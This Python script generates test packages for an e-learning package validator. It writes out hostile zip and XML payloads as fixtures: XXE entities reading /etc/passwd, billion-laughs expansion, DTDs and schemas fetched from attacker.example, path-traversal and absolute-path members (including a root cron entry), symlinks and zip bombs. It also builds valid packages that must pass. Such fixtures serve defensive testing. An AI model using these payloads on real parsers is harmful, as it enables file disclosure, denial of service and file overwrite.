"""Generate the hostile packages of tests/bad/package/ (QTI 2.1, QTI 1.2 and cartridges), byte
for byte the same on every run, and the packages of tests/good/package/ that must pass (what real
tools' packages do).

    python tests/bad/package/make_cases.py [OUT_DIR]    # default: this folder and tests/good/package/
                                                        # (given OUT_DIR: OUT_DIR and OUT_DIR/good)

Each package starts from one small valid package and breaks it one way; the names say how:
QTI 2.1 packages (a manifest and one item), ``qti12-*`` Canvas-flavour QTI 1.2 packages (a
manifest, one assessment, Canvas's settings file) and ``cc-*.imscc`` Common Cartridges (the
shared example schemas/examples/cc/cc13-ur-mc). Zips are written by hand-patched zipfile output where zipfile
cannot produce the hostile form (symlink modes, encryption flags, duplicate names), with a
fixed timestamp so the bytes never change. The zip bomb stays small on disk: 10 MiB of
spaces inside an XML element deflate to about 10 KiB (ratio ~1000:1).
"""

from __future__ import annotations

import io
import stat
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

DATE = (1980, 1, 1, 0, 0, 0)
QTI = "http://www.imsglobal.org/xsd/imsqti_v2p1"
XSI = "http://www.w3.org/2001/XMLSchema-instance"

ITEM = f"""<?xml version="1.0" encoding="UTF-8"?>
<assessmentItem xmlns="{QTI}" identifier="q1" title="Q1" adaptive="false" timeDependent="false">
  <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">
    <correctResponse><value>A</value></correctResponse>
  </responseDeclaration>
  <itemBody>
    <choiceInteraction responseIdentifier="RESPONSE" shuffle="false" maxChoices="1">
      <prompt>2 + 2?</prompt>
      <simpleChoice identifier="A">4</simpleChoice>
      <simpleChoice identifier="B">5</simpleChoice>
    </choiceInteraction>
  </itemBody>
  <responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"/>
</assessmentItem>
"""

MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <metadata>
    <schema>QTIv2.1 Package</schema>
    <schemaversion>1.0.0</schemaversion>
  </metadata>
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_item_xmlv2p1" href="items/q1.xml">
      <file href="items/q1.xml"/>
    </resource>
  </resources>
</manifest>
"""

XXE_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&xxe;</prompt>")

LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "lol"}">' for i in range(10))
LOL_ITEM = f"""<?xml version="1.0"?>
<!DOCTYPE assessmentItem [{LAUGHS}]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&lol9;</prompt>")

DTD_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem SYSTEM "http://attacker.example/qti.dtd">
""" + ITEM.split("\n", 1)[1]

PARAM_ENTITY_ITEM = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
""" + ITEM.split("\n", 1)[1]

REMOTE_SCHEMA_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    f'xsi:schemaLocation="{QTI} http://attacker.example/imsqti_v2p1.xsd"',
)


def _qti_version(item: str, ns: str, xsd: str) -> str:
    return item.replace(f'xmlns="{QTI}"', f'xmlns="{ns}"').replace(
        'identifier="q1"',
        f'xmlns:xsi="{XSI}" xsi:schemaLocation="{ns} {xsd}" identifier="q1"',
    )


QTI22 = "http://www.imsglobal.org/xsd/imsqti_v2p2"
ITEM_22 = _qti_version(ITEM, QTI22, "http://www.imsglobal.org/xsd/qti/qtiv2p2/imsqti_v2p2p1.xsd")
ITEM_20 = _qti_version(
    ITEM, "http://www.imsglobal.org/xsd/imsqti_v2p0", "http://www.imsglobal.org/xsd/imsqti_v2p0.xsd"
)
ITEM_211 = _qti_version(ITEM, QTI, "http://www.imsglobal.org/xsd/qti/qtiv2p1/imsqti_v2p1p1.xsd")
MANIFEST_22 = (
    MANIFEST.replace("QTIv2.1 Package", "QTIv2.2 Package")
    .replace("imsqti_item_xmlv2p1", "imsqti_item_xmlv2p2")
    .replace(
        'identifier="m1"',
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://www.imsglobal.org/xsd/imscp_v1p1 '
        'http://www.imsglobal.org/xsd/qti/qtiv2p2/qtiv2p2_imscpv1p2_v1p0.xsd" identifier="m1"',
    )
)
# APIP 1.0 (as TAO and the SmarterApp tools write it): QTI 2.1 in APIP's own namespaces, the
# manifest's too, its resource types imsqti_apip*_xmlv2p1.
APIP_ITEM = ITEM.replace(
    f'xmlns="{QTI}"', 'xmlns="http://www.imsglobal.org/xsd/apip/apipv1p0/qtiitem/imsqti_v2p1"'
)
APIP_MANIFEST = (
    MANIFEST.replace("QTIv2.1 Package", "APIP Package")
    .replace("imsqti_item_xmlv2p1", "imsqti_apipitem_xmlv2p1")
    .replace(
        'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1"',
        'xmlns="http://www.imsglobal.org/xsd/apip/apipv1p0/imscp_v1p1" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://www.imsglobal.org/xsd/apip/apipv1p0/imscp_v1p1 '
        'http://www.imsglobal.org/profile/apip/apipv1p0/apipv1p0_imscpv1p2_v1p0.xsd" identifier="m1"',
    )
)

# A test whose section is a file of its own (assessmentSectionRef), as Onyx and TAO write them.
TEST_WITH_SECTION_REF = f"""<?xml version="1.0" encoding="UTF-8"?>
<assessmentTest xmlns="{QTI}" identifier="t1" title="T1">
  <testPart identifier="p1" navigationMode="linear" submissionMode="individual">
    <assessmentSection identifier="s0" title="S0" visible="true">
      <assessmentSectionRef identifier="s1" href="./sections/s1.xml"/>
    </assessmentSection>
  </testPart>
</assessmentTest>
"""
SECTION = f"""<?xml version="1.0" encoding="UTF-8"?>
<assessmentSection xmlns="{QTI}" identifier="s1" title="S1" visible="true">
  <assessmentItemRef identifier="q1" href="../items/q1.xml"/>
</assessmentSection>
"""
MANIFEST_WITH_SECTION = MANIFEST.replace(
    "  </resources>",
    """    <resource identifier="t1" type="imsqti_test_xmlv2p1" href="test.xml">
      <file href="test.xml"/>
      <dependency identifierref="s1"/>
    </resource>
    <resource identifier="s1" type="imsqti_section_xmlv2p1" href="sections/s1.xml">
      <file href="sections/s1.xml"/>
      <dependency identifierref="r1"/>
    </resource>
  </resources>""",
)


def _section_package(section: str = SECTION, test: str = TEST_WITH_SECTION_REF) -> list[tuple[str, bytes]]:
    return _good(**{"imsmanifest.xml": MANIFEST_WITH_SECTION, "test.xml": test, "sections/s1.xml": section})


# A plain IMS CP 1.1 manifest (no QTI 2.1 profile metadata), as QTIWorks, Aardvark and older TAO
# exports write them; organizations is required by IMS CP 1.1.
PLAIN_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_item_xmlv2p1" href="items/q1.xml">
      <file href="items/q1.xml"/>
    </resource>
    <resource identifier="t1" type="imsqti_test_xmlv2p1">
      <dependency identifierref="r1"/>
      <dependency identifierref="r2"/>
    </resource>
  </resources>
</manifest>
"""

# What macOS's Finder puts beside every file of a zip it makes: an AppleDouble header (magic
# 0x00051607, version 2), binary although the name ends in .xml.
APPLEDOUBLE = b"\x00\x05\x16\x07\x00\x02\x00\x00" + b"Mac OS X        " + b"\x00\x02" + b"\x00" * 30

MATH_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:m="http://www.w3.org/1998/Math/MathML" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    f'xsi:schemaLocation="{QTI} http://www.imsglobal.org/xsd/qti/qtiv2p1/imsqti_v2p1.xsd '
    'http://www.w3.org/1998/Math/MathML http://www.w3.org/Math/XMLSchema/mathml2/mathml2.xsd"',
).replace(
    "<prompt>2 + 2?</prompt>", "<prompt><m:math><m:mn>2</m:mn><m:mo>+</m:mo><m:mn>2</m:mn></m:math>?</prompt>"
)

UNUSED_SCHEMA_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    f'xsi:schemaLocation="{QTI} http://www.imsglobal.org/xsd/qti/qtiv2p1/imsqti_v2p1.xsd '
    'http://www.taotesting.com/xsd/pciv1p0 http://www.taotesting.com/xsd/pciv1p0.xsd"',
)

# An item that shows package files the way IMS examples and TAO exports do: a stylesheet, an
# image, an object, and a shared stimulus pulled in by XInclude (never processed, only checked).
ASSET_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:xi="http://www.w3.org/2001/XInclude"',
).replace(
    "  <itemBody>\n",
    '  <stylesheet href="../style/item.css" type="text/css"/>\n  <itemBody>\n'
    '    <xi:include href="../shared/stimulus.xml"/>\n'
    '    <p><img src="images/sum%20sign.png" alt="+"/>'
    '<object data="./media/clip.mp4" type="video/mp4">clip</object>'
    '<img src="https://example.org/remote.png" alt="remote"/></p>\n',
)
ASSET_MANIFEST = MANIFEST.replace(
    '      <file href="items/q1.xml"/>\n',
    '      <file href="items/q1.xml"/>\n      <dependency identifierref="w1"/>\n',
).replace(
    "  </resources>",
    """    <resource identifier="w1" type="webcontent" xml:base="items/">
      <file href="images/sum%20sign.png"/>
      <file href="media/clip.mp4"/>
      <file href="../style/item.css"/>
      <file href="../shared/stimulus.xml"/>
    </resource>
    <resource identifier="w2" type="webcontent" href="https://example.org/guide.html"/>
  </resources>""",
)
STIMULUS = f"""<?xml version="1.0" encoding="UTF-8"?>
<div xmlns="{QTI}"><p>Read this first.</p></div>
"""


def _asset_package(**replace: str) -> list[tuple[str, bytes]]:
    files = [*_good(**{"imsmanifest.xml": ASSET_MANIFEST, "items/q1.xml": ASSET_ITEM, **replace})]
    return files + [
        ("items/images/sum sign.png", b"\x89PNG\r\n\x1a\n"),
        ("items/media/clip.mp4", b"\x00\x00\x00\x18ftypmp42"),
        ("style/item.css", b"p { direction: rtl; }\n"),
        ("shared/stimulus.xml", STIMULUS.encode()),
    ]


def _zip(members: list[tuple[str, bytes]], tweak: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which we want
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = 0o644 << 16
                if tweak is not None:
                    tweak(info)
                zf.writestr(info, data)
    return buf.getvalue()


def _good(**replace: str) -> list[tuple[str, bytes]]:
    files = {"imsmanifest.xml": MANIFEST, "items/q1.xml": ITEM, **replace}
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def _with(name: str, data: bytes, **replace: str) -> list[tuple[str, bytes]]:
    return [*_good(**replace), (name, data)]


def _tweak_member(target: str, fn: Callable[[zipfile.ZipInfo], None]) -> Callable[[zipfile.ZipInfo], None]:
    def tweak(info: zipfile.ZipInfo) -> None:
        if info.filename == target:
            fn(info)

    return tweak


def _symlink(info: zipfile.ZipInfo) -> None:
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _set_encrypted(data: bytes, member: str) -> bytes:
    """Set the "encrypted" flag of a member in its local and central headers (zipfile
    writes no encrypted members, and resets flag_bits a ZipInfo carries into writestr)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        offset = zf.getinfo(member).header_offset
    out[offset + 6] |= 0x1  # local file header: general purpose flags at +6
    name = member.encode()
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    out[central + 8] |= 0x1  # central directory header: flags at +8
    return bytes(out)


def cases() -> dict[str, bytes]:
    item = ITEM.encode()
    return {
        "dotdot-path.zip": _zip(_with("../../evil.xml", item)),
        "dotdot-inside.zip": _zip(_with("items/../../outside/q.xml", item)),
        "absolute-path.zip": _zip(_with("/etc/cron.d/evil", b"* * * * * root id\n")),
        "backslash-path.zip": _zip(_with("..\\..\\windows\\evil.xml", item)),
        "drive-letter.zip": _zip(_with("C:/Windows/evil.xml", item)),
        "symlink.zip": _zip(
            _with("items/link.xml", b"/etc/passwd"), _tweak_member("items/link.xml", _symlink)
        ),
        "duplicate-names.zip": _zip([*_good(), ("items/q1.xml", item.replace(b"2 + 2?", b"3 + 3?"))]),
        "encrypted-member.zip": _set_encrypted(_zip(_good()), "items/q1.xml"),
        "zip-bomb.zip": _zip(_with("items/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")),
        "member-over-size-limit.zip": _zip(
            _with("items/huge.xml", b"<a>" + b"x" * (17 * 1024 * 1024) + b"</a>")
        ),
        "xxe-entity.zip": _zip(_good(**{"items/q1.xml": XXE_ITEM})),
        "xxe-in-manifest.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<?xml version="1.0" encoding="UTF-8"?>\n',
                        '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
                    )
                }
            )
        ),
        "billion-laughs.zip": _zip(_good(**{"items/q1.xml": LOL_ITEM})),
        "external-dtd.zip": _zip(_good(**{"items/q1.xml": DTD_ITEM})),
        "parameter-entity.zip": _zip(_good(**{"items/q1.xml": PARAM_ENTITY_ITEM})),
        "remote-schema-location.zip": _zip(_good(**{"items/q1.xml": REMOTE_SCHEMA_ITEM})),
        "href-outside-package.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="../../etc/passwd"/>'
                    )
                }
            )
        ),
        "href-absolute-url.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="http://attacker.example/q.xml"/>'
                    )
                }
            )
        ),
        "no-manifest.zip": _zip(_good()[1:]),
        "not-a-zip.zip": b"PK\x03\x04 this is not really a zip archive\n",
        "truncated.zip": _zip(_good())[:150],
        "not-well-formed.zip": _zip(_good(**{"items/q1.xml": ITEM.replace("</itemBody>", "")})),
        "qti22-package.zip": _zip(_good(**{"imsmanifest.xml": MANIFEST_22, "items/q1.xml": ITEM_22})),
        "qti20-item.zip": _zip(_good(**{"items/q1.xml": ITEM_20})),
        "apip-package.zip": _zip(_good(**{"imsmanifest.xml": APIP_MANIFEST, "items/q1.xml": APIP_ITEM})),
        "apip-item.zip": _zip(_good(**{"items/q1.xml": APIP_ITEM})),
        "section-invalid.zip": _zip(_section_package(SECTION.replace(' title="S1"', ""))),
        "section-missing.zip": _zip([(n, d) for n, d in _section_package() if n != "sections/s1.xml"]),
        "section-ref-to-item.zip": _zip(
            _section_package(test=TEST_WITH_SECTION_REF.replace("./sections/s1.xml", "items/q1.xml"))
        ),
        "plain-cp-missing-dependency.zip": _zip(_good(**{"imsmanifest.xml": PLAIN_MANIFEST})),
        "xml-base-wrong.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<resource identifier="r1"', '<resource xml:base="questions/" identifier="r1"'
                    ).replace('href="items/q1.xml"', 'href="q1.xml"')
                }
            )
        ),
        "macos-debris-and-broken-item.zip": _zip(
            _good(**{"items/q1.xml": ITEM.replace("</itemBody>", "")})
            + [("__MACOSX/items/._q1.xml", APPLEDOUBLE), ("items/.DS_Store", b"\x00\x00\x00\x01Bud1")]
        ),
        "utf16-xxe.zip": _zip(
            [(n, d) for n, d in _good()[:1]]
            + [("items/q1.xml", XXE_ITEM.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"))]
        ),
    }


def good_cases() -> dict[str, bytes]:
    """Packages that must pass `lmsexport validate` (exit 0), each doing what real tools' do."""
    return {
        "qti211-schema-location.zip": _zip(_good(**{"items/q1.xml": ITEM_211})),
        "mathml2-schema-location.zip": _zip(_good(**{"items/q1.xml": MATH_ITEM})),
        "unused-schema-location.zip": _zip(_good(**{"items/q1.xml": UNUSED_SCHEMA_ITEM})),
        "macos-debris.zip": _zip(
            _good()
            + [
                ("__MACOSX/._imsmanifest.xml", APPLEDOUBLE),
                ("__MACOSX/items/._q1.xml", APPLEDOUBLE),
                ("items/._q1.xml", APPLEDOUBLE),
                (".DS_Store", b"\x00\x00\x00\x01Bud1"),
            ]
        ),
        "section-file.zip": _zip(_section_package()),
        "plain-cp-dependencies-only.zip": _zip(
            _good(
                **{"imsmanifest.xml": PLAIN_MANIFEST.replace('      <dependency identifierref="r2"/>\n', "")}
            )
        ),
        "dot-and-percent-hrefs.zip": _zip(
            [
                (
                    "imsmanifest.xml",
                    MANIFEST.replace('href="items/q1.xml"', 'href="./items/q%201.xml"').encode(),
                ),
                ("items/q 1.xml", ITEM.encode()),
            ]
        ),
        "assets-xinclude-xml-base.zip": _zip(_asset_package()),
        "missing-asset.zip": _zip(
            _asset_package(**{"items/q1.xml": ASSET_ITEM.replace("./media/clip.mp4", "./media/missing.mp4")})
        ),
    }


# --------------------------------------------------------------------------- QTI 1.2 and cartridges

QTI12_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <metadata><schema>IMS Content</schema><schemaversion>1.1.3</schemaversion></metadata>
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_xmlv1p2">
      <file href="quiz/quiz.xml"/>
      <dependency identifierref="r2"/>
    </resource>
    <resource identifier="r2" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
        href="quiz/assessment_meta.xml">
      <file href="quiz/assessment_meta.xml"/>
    </resource>
  </resources>
</manifest>
"""

QTI12_ASSESSMENT = """<?xml version="1.0" encoding="UTF-8"?>
<questestinterop>
  <assessment ident="quiz" title="Quiz">
    <section ident="root_section">
      <item ident="q1" title="Q1">
        <itemmetadata><qtimetadata>
          <qtimetadatafield><fieldlabel>question_type</fieldlabel><fieldentry>multiple_choice_question</fieldentry></qtimetadatafield>
        </qtimetadata></itemmetadata>
        <presentation>
          <material><mattext texttype="text/plain">2 + 2?</mattext></material>
          <response_lid ident="response1" rcardinality="Single">
            <render_choice>
              <response_label ident="A"><material><mattext>4</mattext></material></response_label>
              <response_label ident="B"><material><mattext>5</mattext></material></response_label>
            </render_choice>
          </response_lid>
        </presentation>
        <resprocessing>
          <outcomes><decvar varname="SCORE" vartype="Decimal" minvalue="0" maxvalue="100"/></outcomes>
          <respcondition continue="No">
            <conditionvar><varequal respident="response1">A</varequal></conditionvar>
            <setvar action="Set" varname="SCORE">100</setvar>
          </respcondition>
        </resprocessing>
      </item>
    </section>
  </assessment>
</questestinterop>
"""

CANVAS_META = """<?xml version="1.0" encoding="UTF-8"?>
<quiz xmlns="http://canvas.instructure.com/xsd/cccv1p0" identifier="quiz">
  <title>Quiz</title>
  <shuffle_answers>false</shuffle_answers>
</quiz>
"""


def _qti12(**replace: str) -> list[tuple[str, bytes]]:
    files = {
        "imsmanifest.xml": QTI12_MANIFEST,
        "quiz/quiz.xml": QTI12_ASSESSMENT,
        "quiz/assessment_meta.xml": CANVAS_META,
        **replace,
    }
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def _with_doctype(document: str, doctype: str) -> str:
    return document.replace(
        '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0"?>\n' + doctype + "\n"
    )


CC_EXAMPLE = Path(__file__).resolve().parents[3] / "schemas" / "examples" / "cc" / "cc13-ur-mc"
CC_MANIFEST = (CC_EXAMPLE / "imsmanifest.xml").read_text(encoding="utf-8")
CC_ASSESSMENT = (CC_EXAMPLE / "quiz-ur-001" / "assessment.xml").read_text(encoding="utf-8")
CC_RESPONSE_LABEL_C = CC_ASSESSMENT[
    CC_ASSESSMENT.index('              <response_label ident="C">') : CC_ASSESSMENT.index(
        "            </render_choice>"
    )
]


def _cc(**replace: str) -> list[tuple[str, bytes]]:
    files = {"imsmanifest.xml": CC_MANIFEST, "quiz-ur-001/assessment.xml": CC_ASSESSMENT, **replace}
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def qti12_and_cc_cases() -> dict[str, bytes]:
    entity = '<!DOCTYPE questestinterop [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return {
        "qti12-internal-subset.zip": _zip(
            _qti12(**{"quiz/quiz.xml": _with_doctype(QTI12_ASSESSMENT, entity).replace("2 + 2?", "&xxe;")})
        ),
        "qti12-billion-laughs.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": _with_doctype(
                        QTI12_ASSESSMENT, f"<!DOCTYPE questestinterop [{LAUGHS}]>"
                    ).replace("2 + 2?", "&lol9;")
                }
            )
        ),
        "qti12-utf16-internal-subset.zip": _zip(
            [
                *_qti12()[:1],
                (
                    "quiz/quiz.xml",
                    _with_doctype(QTI12_ASSESSMENT, entity)
                    .replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')
                    .encode("utf-16"),
                ),
                *_qti12()[2:],
            ]
        ),
        "qti12-remote-dtd-never-fetched.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": _with_doctype(
                        QTI12_ASSESSMENT,
                        '<!DOCTYPE questestinterop SYSTEM "http://attacker.example/qti.dtd">',
                    ).replace('<item ident="q1"', '<item ident="q1" onload="x"')
                }
            )
        ),
        "qti12-not-dtd-valid.zip": _zip(
            _qti12(**{"quiz/quiz.xml": QTI12_ASSESSMENT.replace("<presentation>", "<presentation><flow/>")})
        ),
        "qti12-missing-file.zip": _zip(_qti12()[:1] + _qti12()[2:]),
        "qti12-href-outside.zip": _zip(
            _qti12(**{"imsmanifest.xml": QTI12_MANIFEST.replace('"quiz/quiz.xml"', '"../../etc/passwd"')})
        ),
        "qti12-bad-canvas-meta.zip": _zip(
            _qti12(**{"quiz/assessment_meta.xml": CANVAS_META.replace(">false<", ">maybe<")})
        ),
        "qti12-zip-bomb.zip": _zip(
            [*_qti12(), ("quiz/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")]
        ),
        "qti12-remote-schema-location.zip": _zip(
            _qti12(
                **{
                    "quiz/quiz.xml": QTI12_ASSESSMENT.replace(
                        "<questestinterop>",
                        '<questestinterop xmlns="http://www.imsglobal.org/xsd/ims_qtiasiv1p2" '
                        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
                        '"http://www.imsglobal.org/xsd/ims_qtiasiv1p2 http://attacker.example/qti.xsd">',
                    )
                }
            )
        ),
        "cc-schematron-violation.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace(
                        "cc.multiple_choice.v0p1", "cc.true_false.v0p1"
                    )
                }
            )
        ),
        "cc-xsd-invalid.imscc": _zip(
            _cc(**{"quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace('action="Set"', 'action="Add"')})
        ),
        "cc-missing-resource.imscc": _zip(
            _cc(
                **{
                    "imsmanifest.xml": CC_MANIFEST.replace(
                        'identifierref="quiz-ur-001"', 'identifierref="gone"'
                    )
                }
            )
        ),
        "cc-missing-file.imscc": _zip(_cc()[:1]),
        "cc-xxe.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": _with_doctype(CC_ASSESSMENT, entity).replace(
                        "اسلام آباد</mattext>", "&xxe;</mattext>", 1
                    )
                }
            )
        ),
        "cc-not-a-cartridge.imscc": _zip(_good()),
        "cc-duplicate-item-ident.imscc": _zip(
            _cc(
                **{
                    "quiz-ur-001/assessment.xml": CC_ASSESSMENT.replace(
                        "    </section>",
                        CC_ASSESSMENT[
                            CC_ASSESSMENT.index("      <item ") : CC_ASSESSMENT.index("    </section>")
                        ]
                        + "    </section>",
                    )
                }
            )
        ),
        "cc-zip-bomb.imscc": _zip(
            [*_cc(), ("quiz-ur-001/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")]
        ),
        "cc-dotdot-path.imscc": _zip([*_cc(), ("../../evil.xml", CC_ASSESSMENT.encode())]),
        "cc-href-outside.imscc": _zip(
            _cc(**{"imsmanifest.xml": CC_MANIFEST.replace('"quiz-ur-001/assessment.xml"', '"../secret.xml"')})
        ),
    }


def main(argv: list[str]) -> None:
    here = Path(__file__).parent
    out = Path(argv[1]) if len(argv) > 1 else here
    good = out / "good" if len(argv) > 1 else here.parents[1] / "good" / "package"
    for folder, made in ((out, {**cases(), **qti12_and_cc_cases()}), (good, good_cases())):
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in made.items():
            (folder / name).write_bytes(data)


if __name__ == "__main__":
    main(sys.argv)
